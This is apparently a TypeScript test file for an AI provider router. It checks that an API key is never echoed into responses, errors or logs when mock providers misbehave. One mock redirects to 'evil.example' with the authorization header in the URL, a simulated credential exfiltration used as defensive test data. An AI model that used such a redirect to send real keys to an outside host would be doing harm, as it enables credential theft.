import { inspect } from "node:util";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { RouterEvent } from "../../../src/index.ts";
import {
  type Answering,
  canary,
  chatAnswer,
  chatStream,
  hello,
  open,
  post,
  problem,
} from "./support.ts";

/** Everything that was printed in a test, by whatever way. */
let printed: string[] = [];

beforeEach(() => {
  printed = [];
  for (const stream of [process.stdout, process.stderr]) {
    vi.spyOn(stream, "write").mockImplementation((text) => {
      printed.push(String(text));
      return true;
    });
  }
  for (const level of ["log", "info", "warn", "error", "debug"] as const) {
    vi.spyOn(console, level).mockImplementation(
      (...parts) => void printed.push(inspect(parts, { depth: 9 })),
    );
  }
});

afterEach(() => {
  vi.restoreAllMocks();
});

/** A provider that says back every key that it is sent, in its own ways of failing. */
const repeating =
  (status: number, code: string): Answering =>
  ({ headers }) => {
    const key = headers.get("authorization") ?? headers.get("x-api-key") ?? "";
    return problem(
      status,
      { code, message: `you sent ${key} (${btoa(key.replace("Bearer ", ""))})` },
      { "x-echo": key },
    );
  };

const answers: readonly (readonly [string, Answering])[] = [
  ["answers", () => chatAnswer("hello")],
  ["refuses the request and repeats the key", repeating(400, "invalid_value")],
  ["refuses the key and repeats it", repeating(401, "invalid_api_key")],
  ["finds the input too long and repeats the key", repeating(400, "context_length_exceeded")],
  ["limits the rate and repeats the key", repeating(429, "rate_limit_exceeded")],
  ["fails and repeats the key", repeating(500, "server_error")],
  [
    "redirects to an address with the key",
    ({ headers }) =>
      new Response(null, {
        status: 307,
        headers: { location: `https://evil.example/?${headers.get("authorization")}` },
      }),
  ],
  [
    "cannot be reached",
    () =>
      Promise.reject(
        new TypeError("fetch failed", {
          cause: Object.assign(new Error("x"), { code: "ECONNREFUSED" }),
        }),
      ),
  ],
  [
    "repeats it as a code",
    ({ headers }) =>
      Response.json(
        {
          error: {
            code: (headers.get("authorization") ?? headers.get("x-api-key") ?? "").slice(-36),
          },
        },
        { status: 401 },
      ),
  ],
  ["sends nonsense", () => new Response("<html>no</html>")],
  ["cuts its stream", ({ signal }) => chatStream([], signal)],
];

describe("a key", () => {
  it.for(answers)("is seen by nobody where the provider %s", async ([, answer]) => {
    const { router, events, sent } = await open(answer);
    const seen: unknown[] = [];
    for (const path of ["/chat/completions", "/messages"]) {
      for (const stream of [false, true]) {
        const response = await post(router, path, { model: "x", max_tokens: 9, stream, ...hello });
        seen.push(await response.text(), [...response.headers]);
      }
    }
    const model = router.model("x");
    seen.push(await model.chat(hello).catch((error: unknown) => error));
    const openai = await router.openai();
    seen.push(
      openai,
      await openai.chat.completions
        .create({ model: "x", ...hello })
        .catch((error: unknown) => error),
    );
    seen.push(router, events, router.resolve({}), sent.length > 0);
    console.log(router);
    await router.close();
    const shown = seen.map((each) => inspect(each, { depth: 12, showHidden: true }) + json(each));
    expect(sent.some(({ headers }) => (headers.get("authorization") ?? "").includes(canary))).toBe(
      true,
    );
    expect(shown.join("\n")).not.toContain(canary);
    expect(shown.join("\n")).not.toContain(btoa(`${canary}-first`));
    expect(printed.join("\n")).not.toContain(canary);
  });
});

function json(value: unknown): string {
  const events = value as readonly RouterEvent[];
  try {
    return JSON.stringify(events) ?? "";
  } catch {
    return "";
  }
}
